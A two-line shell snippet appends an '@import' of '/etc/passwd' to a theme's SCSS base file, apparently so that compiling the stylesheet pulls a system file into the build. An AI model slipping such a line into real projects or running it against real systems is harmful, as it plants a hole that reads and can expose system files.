# a file of the system as a style
printf '@import "/etc/passwd";\n' >>themes/default/scss/_base.scss
